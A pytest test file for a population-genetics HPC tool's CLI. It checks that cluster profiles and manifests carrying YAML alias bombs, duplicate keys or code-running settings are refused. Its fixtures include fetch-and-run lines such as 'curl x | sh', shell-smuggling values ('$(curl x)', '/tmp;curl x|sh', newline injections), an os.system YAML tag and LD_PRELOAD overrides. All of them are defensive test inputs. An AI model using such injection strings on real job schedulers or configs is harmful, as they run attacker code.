"""Probes: manifests and profiles are data, and the dashboard's URL is where it listens.

Each refused input gives exit 2 and one ``Error:`` line naming the file and the key (or value) at fault, no
traceback, and no run directory. Commands run in-process through click's CliRunner (``hpcpop validate`` and
``submit``); the listener probes start a real LocalCluster and SLURMCluster scheduler (no workers).
"""

from __future__ import annotations

import logging
import socket
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from helpers import profile_of, write_yaml

import hpc_popgen.cluster.profiles as profiles
from hpc_popgen.cli import main
from hpc_popgen.cluster.clusters import cluster_kwargs, start_cluster
from hpc_popgen.errors import ProfileError

STAGES = [{"simulate": {"store": "@run/s.zarr", "classes": [0, 100], "n_per_class": 4}}]
BOMB = "".join(f"  {c}: &{c} [{', '.join([f'*{p}' if p else 'x'] * 9)}]\n"
               for p, c in zip(["", *"abcdefgh"], "abcdefghi", strict=True))  # 9 levels: 9^9 (387 million) strings


@pytest.fixture
def hpcpop(monkeypatch, tmp_path):
    """``hpcpop ARGS`` in-process; the CLI's logging set-up is undone afterwards (other tests use caplog).
    The user's profile folder is ``tmp_path/user-profiles``."""
    names = ("hpc_popgen", "", "py.warnings", "distributed", "dask_jobqueue")
    saved = {n: (logging.getLogger(n).handlers[:], logging.getLogger(n).level, logging.getLogger(n).propagate)
             for n in names}
    monkeypatch.setenv("HPCPOP_VERBOSE", "0")
    monkeypatch.setattr(profiles, "USER_PROFILE_DIR", tmp_path / "user-profiles")
    monkeypatch.chdir(tmp_path)

    def run(*args):
        return CliRunner().invoke(main, [str(a) for a in args])

    yield run
    logging.captureWarnings(False)
    for n, (handlers, level, propagate) in saved.items():
        logger = logging.getLogger(n)
        logger.handlers[:] = handlers
        logger.setLevel(level)
        logger.propagate = propagate


def refused(result) -> str:
    """The one ``Error:`` line of a refused command: exit 2, nothing else on stderr, no traceback."""
    assert result.exit_code == 2, (result.exit_code, result.output, result.exception)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
    assert "Traceback" not in result.output
    return lines[0]


def manifest(folder: Path, profile: str = "local", text: str | None = None) -> Path:
    """A small valid manifest naming ``profile`` (or the given YAML text)."""
    path = folder / "job.yaml"
    if text is not None:
        path.write_text(text)
        return path
    return write_yaml(path, {"name": "probe", "seed": 1, "profile": profile, "storage": "runs", "stages": STAGES})


# --- YAML: duplicate keys, aliases, nesting, in a manifest and in a profile ---------------------------------

SIM = "stages:\n  - simulate:\n      store: '@run/s.zarr'\n      n_per_class: 4\n"
YAML_CASES = {
    "duplicate-top-key": ("name: p\nseed: 7\nseed: 8\nstorage: runs\n" + SIM,
                          ["line 3", "duplicate key 'seed'", "first on line 2"]),
    "duplicate-stage-key": ("name: p\nseed: 7\nstorage: runs\n" + SIM + "      n_per_class: 5\n",
                            ["line 8", "duplicate key 'n_per_class'", "first on line 7"]),
    "duplicate-int-key": ("name: p\nseed: 1\nx:\n  1: a\n  0x1: b\n", ["line 5", "duplicate key '0x1'"]),
    "alias-bomb-in-classes": ("name: p\nseed: 7\nstorage: runs\nbomb:\n" + BOMB + SIM + "      classes: *i\n",
                              ["aliases expand to", "at most 5,000"]),
    "recursive-alias": ("name: p\nseed: 1\nx: &a [1, *a]\n", ["line 3", "an alias refers to a node that contains it"]),
    "nested-too-deep": ("name: p\nseed: 1\nx: " + "[" * 500 + "]" * 500 + "\n", ["nested deeper than 64 levels"]),
    "python-tag": ("name: !!python/object/apply:os.system ['true']\nseed: 1\n", ["line 1", "python/object"]),
}


@pytest.mark.parametrize("text,needles", YAML_CASES.values(), ids=YAML_CASES.keys())
def test_yaml_faults_in_a_manifest_are_one_line_at_once(hpcpop, tmp_path, text, needles):
    job = manifest(tmp_path, text=text)
    start = time.monotonic()
    line = refused(hpcpop("validate", job))
    assert time.monotonic() - start < 5, "refused before anything is built"
    assert f"{job}: not valid YAML" in line and all(n in line for n in needles), line


@pytest.mark.parametrize("text,needles", [
    ("kind: local\nkind: slurm\n", ["line 2", "duplicate key 'kind'"]),
    ("kind: local\ncluster:\n  n_workers: 1\n  n_workers: 2\n", ["line 4", "duplicate key 'n_workers'"]),
    ("kind: local\nbomb:\n" + BOMB + "cluster: {resources: {x: *i}}\n", ["aliases expand to"]),
], ids=["duplicate-kind", "duplicate-cluster-key", "alias-bomb"])
def test_yaml_faults_in_a_profile_named_by_a_manifest(hpcpop, tmp_path, text, needles):
    (tmp_path / "p.yaml").write_text(text)
    job = manifest(tmp_path, "p.yaml")
    for args in (["validate", job], ["submit", job, "--run-dir", tmp_path / "run"]):
        line = refused(hpcpop(*args))
        assert str(tmp_path / "p.yaml") in line and all(n in line for n in needles), line
    assert not (tmp_path / "run").exists() and not (tmp_path / "runs").exists(), "nothing partial"


def test_anchors_and_merge_keys_that_expand_a_little_still_work(hpcpop, tmp_path):
    text = ("name: p\nseed: 1\nstorage: runs\nstages:\n"
            "  - name: a\n    simulate: &sim\n      store: '@run/a.zarr'\n      n_per_class: 4\n      classes: [0, 100]\n"
            "  - name: b\n    simulate:\n      <<: *sim\n      store: '@run/b.zarr'\n")
    result = hpcpop("validate", manifest(tmp_path, text=text))
    assert result.exit_code == 0, result.output
    assert "2 stage(s)" in result.output


# --- profiles: code only from the user's own folder; cluster keywords typed --------------------------------

SLURM = {"cores": 1, "memory": "1GB", "walltime": "00:10:00"}
CODE_CASES = {
    "preload": ("local", {"preload": ["x.py"]}, "cluster.preload"),
    "preload_nanny": ("local", {"preload_nanny": ["x.py"]}, "cluster.preload_nanny"),
    "plugins": ("local", {"plugins": ["x"]}, "cluster.plugins"),
    "worker_class": ("local", {"worker_class": "x.Worker"}, "cluster.worker_class"),
    "env": ("local", {"env": {"LD_PRELOAD": "/tmp/x.so"}}, "cluster.env"),
    "config": ("local", {"config": {"distributed.worker.preload": ["x.py"]}}, "cluster.config"),
    "scheduler_kwargs": ("local", {"scheduler_kwargs": {"preload": ["x.py"]}}, "cluster.scheduler_kwargs"),
    "services": ("local", {"worker_services": {"x": "x.Server"}}, "cluster.worker_services"),
    "python": ("slurm", {**SLURM, "python": "/tmp/x.sh"}, "cluster.python"),
    "worker_command": ("slurm", {**SLURM, "worker_command": "x"}, "cluster.worker_command"),
    "job_script_prologue": ("slurm", {**SLURM, "job_script_prologue": ["curl x | sh"]}, "cluster.job_script_prologue"),
    "shebang": ("slurm", {**SLURM, "shebang": "#!/tmp/x"}, "cluster.shebang"),
    "scheduler_preload": ("slurm", {**SLURM, "scheduler_options": {"preload": "x.py"}},
                          "cluster.scheduler_options.preload"),
    "scheduler_jupyter": ("slurm", {**SLURM, "scheduler_options": {"jupyter": True}},
                          "cluster.scheduler_options.jupyter"),
    "worker_arg_preload": ("slurm", {**SLURM, "worker_extra_args": ["--preload", "x.py"]},
                           "cluster.worker_extra_args: '--preload'"),
    "worker_arg_in_one": ("slurm", {**SLURM, "worker_extra_args": ["--lifetime 1h --preload-nanny x.py"]},
                          "cluster.worker_extra_args"),
    "worker_class_arg": ("slurm", {**SLURM, "worker_extra_args": ["--worker-class=x.W"]}, "cluster.worker_extra_args"),
    "directive_export": ("slurm", {**SLURM, "job_extra_directives": ["--export=ALL,LD_PRELOAD=/tmp/x.so"]},
                         "cluster.job_extra_directives"),
    "shell_in_local_directory": ("slurm", {**SLURM, "local_directory": "/tmp;curl x|sh"}, "cluster.local_directory"),
    "option_in_local_directory": ("slurm", {**SLURM, "local_directory": "/tmp --preload x.py"},
                                  "cluster.local_directory"),
    "subshell_in_interface": ("slurm", {**SLURM, "interface": "$(curl x)"}, "cluster.interface"),
    "newline_in_queue": ("slurm", {**SLURM, "queue": "debug\ncurl x | sh"}, "cluster.queue"),
    "newline_in_directive": ("slurm", {**SLURM, "job_extra_directives": ["--qos=x\ncurl x | sh"]},
                             "cluster.job_extra_directives"),
}


def code_profile(kind: str, cluster: dict) -> dict:
    return {"kind": kind, "cluster": cluster}


@pytest.mark.parametrize("kind,cluster,key", CODE_CASES.values(), ids=CODE_CASES.keys())
def test_a_profile_reached_through_a_manifest_runs_no_code(hpcpop, tmp_path, kind, cluster, key):
    write_yaml(tmp_path / "p.yaml", code_profile(kind, cluster))
    job = manifest(tmp_path, "p.yaml")
    for args in (["validate", job], ["submit", job, "--run-dir", tmp_path / "run"]):
        line = refused(hpcpop(*args))
        assert f"{tmp_path / 'p.yaml'}: {key}" in line, line
        assert "only from your own profile folder" in line and str(tmp_path / "user-profiles") in line, line
    assert not (tmp_path / "run").exists() and not (tmp_path / "runs").exists(), "nothing partial"


def test_the_driver_job_runs_no_code_from_a_profile(hpcpop, tmp_path):
    write_yaml(tmp_path / "p.yaml", {"kind": "slurm", "cluster": SLURM,
                                     "driver": {"job_extra_directives": ["--wrap=curl x"]}})
    line = refused(hpcpop("submit", manifest(tmp_path, "p.yaml"), "--run-dir", tmp_path / "run"))
    assert "p.yaml: driver.job_extra_directives: '--wrap=curl x'" in line, line
    assert not (tmp_path / "run").exists()


def test_a_code_profile_on_the_command_line_is_refused_too(hpcpop, tmp_path):
    write_yaml(tmp_path / "p.yaml", code_profile("local", {"preload": ["x.py"]}))
    line = refused(hpcpop("submit", manifest(tmp_path), "--profile", tmp_path / "p.yaml", "--run-dir", tmp_path / "r"))
    assert "p.yaml: cluster.preload: ['x.py']" in line, line
    assert not (tmp_path / "r").exists()


@pytest.mark.parametrize("kind,cluster,key", [CODE_CASES[k] for k in ("preload", "job_script_prologue")],
                         ids=["local-preload", "slurm-prologue"])
def test_the_users_own_profile_may_run_code_and_says_so(hpcpop, tmp_path, kind, cluster, key):
    own = write_yaml(tmp_path / "user-profiles" / "site.yaml", code_profile(kind, cluster))
    records: list[logging.LogRecord] = []
    handler = logging.Handler()
    handler.emit = records.append  # type: ignore[method-assign]
    logger = logging.getLogger("hpc_popgen.cluster.profiles")
    logger.addHandler(handler)
    profiles._WARNED.clear()
    try:
        for name in ("site", str(own)):  # by name, and by a path into the folder
            result = hpcpop("validate", manifest(tmp_path, name))
            assert result.exit_code == 0, result.output
    finally:
        logger.removeHandler(handler)
    warnings = [r.getMessage() for r in records if r.levelno == logging.WARNING]
    assert len(warnings) == 1, warnings
    assert f"profile {own} runs code named by the user: {key}" == warnings[0]


def test_a_recorded_profile_runs_code_only_while_the_users_file_says_so(hpcpop, tmp_path):
    own = write_yaml(tmp_path / "user-profiles" / "site.yaml", code_profile("local", {"preload": ["x.py"]}))
    recorded = profiles.resolve_profile("site").to_dict()  # as profile.resolved.yaml keeps it
    assert profiles.profile_from_data(recorded, name="site", source=str(own)).cluster_value("preload") == ["x.py"]
    with pytest.raises(ProfileError, match=r"site\.yaml: cluster\.preload: \['x\.py'\] .*no longer says so"):
        write_yaml(own, code_profile("local", {"preload": ["y.py"]}))
        profiles.profile_from_data(recorded, name="site", source=str(own))
    with pytest.raises(ProfileError, match=r"elsewhere\.yaml: cluster\.preload.*your own profile folder"):
        profiles.profile_from_data(recorded, name="site", source=str(tmp_path / "elsewhere.yaml"))


@pytest.mark.parametrize("kind,cluster", [
    ("local", {"preload": [], "plugins": None}),  # empty settings run nothing
    ("slurm", {**SLURM, "local_directory": "$TMPDIR", "job_script_prologue": [],
               "job_extra_directives": ["--constraint=gpu&v100", "--qos=normal"],
               "worker_extra_args": ["--resources", "GPU=1"], "scheduler_options": {"port": 0}}),
], ids=["local-empty", "slurm-usual"])
def test_usual_profiles_pass(hpcpop, tmp_path, kind, cluster):
    write_yaml(tmp_path / "p.yaml", code_profile(kind, cluster))
    result = hpcpop("validate", manifest(tmp_path, "p.yaml"))
    assert result.exit_code == 0, result.output


TYPE_CASES = {
    "n_workers": ("local", {"n_workers": "two"}, "cluster.n_workers: 'two' is not of type 'integer'"),
    "n_workers-negative": ("local", {"n_workers": -1}, "cluster.n_workers: -1 is less than the minimum of 0"),
    "threads_per_worker": ("local", {"threads_per_worker": 0}, "cluster.threads_per_worker: 0 is less than"),
    "memory_limit": ("local", {"memory_limit": [4]}, "cluster.memory_limit: [4] is not of type 'string'"),
    "processes-local": ("local", {"processes": 2}, "cluster.processes: 2 is not of type 'boolean'"),
    "processes-slurm": ("slurm", {"processes": True}, "cluster.processes: True is not of type 'integer'"),
    "cores": ("slurm", {"cores": "many"}, "cluster.cores: 'many' is not of type 'integer'"),
    "memory": ("slurm", {"memory": 4}, "cluster.memory: 4 is not of type 'string'"),
    "walltime": ("slurm", {"walltime": 3600}, "cluster.walltime: 3600 is not of type 'string'"),
    "queue": ("slurm", {"queue": ["a"]}, "cluster.queue: ['a'] is not of type 'string'"),
    "account": ("slurm", {"account": 7}, "cluster.account: 7 is not of type 'string'"),
    "job_extra_directives": ("slurm", {"job_extra_directives": "--qos=x"},
                             "cluster.job_extra_directives: '--qos=x' is not of type 'array'"),
    "interface": ("slurm", {"interface": 0}, "cluster.interface: 0 is not of type 'string'"),
    "local_directory": ("slurm", {"local_directory": True}, "cluster.local_directory: True is not of type 'string'"),
    "worker_extra_args": ("slurm", {"worker_extra_args": [1]}, "cluster.worker_extra_args[0]: 1 is not of type"),
    "job_mem": ("slurm", {"job_mem": 1}, "cluster.job_mem: 1 is not of type 'string'"),
    "job_cpu": ("slurm", {"job_cpu": "x"}, "cluster.job_cpu: 'x' is not of type 'integer'"),
    "unknown": ("local", {"n_worker": 2}, "cluster.n_worker: unknown key for LocalCluster (did you mean 'n_workers'?)"),
    "unknown-scheduler-option": ("slurm", {"scheduler_options": {"prot": 1}},
                                 "cluster.scheduler_options.prot: unknown key for Scheduler (did you mean 'port'?)"),
    "dashboard-in-cluster": ("local", {"dashboard_address": ":8787"},
                             "cluster.dashboard_address: set by hpcpop from the profile's top-level"),
    "security-in-cluster": ("slurm", {"security": {}}, "cluster.security: set by hpcpop from the profile's `tls`"),
}


@pytest.mark.parametrize("kind,cluster,needle", TYPE_CASES.values(), ids=TYPE_CASES.keys())
def test_profile_cluster_keywords_have_their_types(hpcpop, tmp_path, kind, cluster, needle):
    write_yaml(tmp_path / "p.yaml", code_profile(kind, cluster))
    line = refused(hpcpop("validate", manifest(tmp_path, "p.yaml")))
    assert f"{tmp_path / 'p.yaml'}: {needle}" in line, line


def test_the_schema_names_every_refused_keyword():
    from hpc_popgen.manifest import load_schema

    text = load_schema("profile.schema.json")["properties"]["cluster"]["description"]
    missing = [k for k in [*profiles.RUNS_CODE, *profiles.SET_BY_HPCPOP] if k not in text]
    assert not missing, f"profile.schema.json's cluster description does not name {missing}"
    for kind in ("local", "slurm"):  # every refused keyword is one the cluster classes really take
        _, accepted = profiles.cluster_parameters(kind)
        accepted |= profiles.scheduler_parameters()
        assert {"preload", "security"} <= accepted


# --- listeners -------------------------------------------------------------------------------------------

def test_dashboard_address_null_means_loopback(tmp_path):
    prof = profile_of({"kind": "local", "dashboard_address": None})
    assert prof.dashboard_address == "127.0.0.1:8787"
    assert cluster_kwargs(prof, None)["dashboard_address"] == "127.0.0.1:8787"
    slurm = profile_of({"kind": "slurm", "dashboard_address": None})
    assert cluster_kwargs(slurm, None)["scheduler_options"]["dashboard_address"] == "127.0.0.1:8787"
    handle = start_cluster(profile_of({"kind": "local", "dashboard_address": None,
                                       "cluster": {"n_workers": 0, "processes": False}}), None, name="null")
    try:
        server = handle.cluster.scheduler.http_server
        assert server.address == "127.0.0.1", "null is loopback, not every interface"
        assert handle.dashboard == f"http://127.0.0.1:{server.port}/status"
    finally:
        handle.close()


def _other_address() -> tuple[str, str]:
    """An interface and IPv4 address of this machine that is not loopback (where a node's scheduler listens)."""
    import psutil

    for name, addrs in psutil.net_if_addrs().items():
        for a in addrs:
            if a.family == socket.AF_INET and not a.address.startswith("127."):
                return name, a.address
    pytest.skip("this machine has no address but loopback")


def _listens(url: str) -> bool:
    host, port = url.removeprefix("http://").split("/")[0].rsplit(":", 1)
    try:
        with socket.create_connection((host, int(port)), timeout=2):
            return True
    except OSError:
        return False


def test_dashboard_url_names_where_it_listens_when_the_scheduler_is_elsewhere():
    """The SLURM shape: scheduler on the node's address, dashboard on loopback; the URL is the loopback one."""
    _, address = _other_address()
    prof = profile_of({"kind": "local", "dashboard_address": "127.0.0.1:0",
                       "cluster": {"n_workers": 0, "processes": True, "host": address}})
    handle = start_cluster(prof, None, name="elsewhere")
    try:
        assert handle.client.scheduler.address.startswith(f"tcp://{address}:")
        assert handle.dashboard.startswith("http://127.0.0.1:") and _listens(handle.dashboard), handle.dashboard
        assert handle.client.dashboard_link != handle.dashboard, "Dask's own link names the scheduler's host"
    finally:
        handle.close()


def test_slurm_dashboard_url_is_the_loopback_it_listens_on():
    from dask_jobqueue import SLURMCluster
    from distributed import Client

    from hpc_popgen.cluster.clusters import _dashboard

    iface, address = _other_address()
    prof = profile_of({"kind": "slurm", "dashboard_address": "127.0.0.1:0", "tls": False,
                       "cluster": {**SLURM, "interface": iface}})
    with SLURMCluster(**cluster_kwargs(prof, None)) as cluster, Client(cluster) as client:
        assert cluster.scheduler_address.startswith(f"tcp://{address}:")
        url = _dashboard(cluster, client)
        assert url.startswith("http://127.0.0.1:") and _listens(url), url
        assert not _listens(client.dashboard_link), "the node address Dask names has no dashboard"


def test_times_are_text_not_base_60_numbers(hpcpop, tmp_path):
    """YAML 1.1 reads ``12:00:00`` as 43200; as YAML 1.2 does, hpcpop reads the text a user means."""
    (tmp_path / "p.yaml").write_text("kind: slurm\ncluster: {cores: 1, memory: 1GB, walltime: 12:00:00}\n"
                                     "driver: {walltime: 24:00:00}\n")
    job = manifest(tmp_path, "p.yaml")
    job.write_text(job.read_text().replace("- simulate:", "- resources: {walltime: 2:30:00}\n  simulate:"))
    result = hpcpop("validate", job)
    assert result.exit_code == 0, result.output
    prof = profiles.resolve_profile(str(tmp_path / "p.yaml"))
    assert prof.cluster_value("walltime") == "12:00:00" and prof.driver.walltime == "24:00:00"
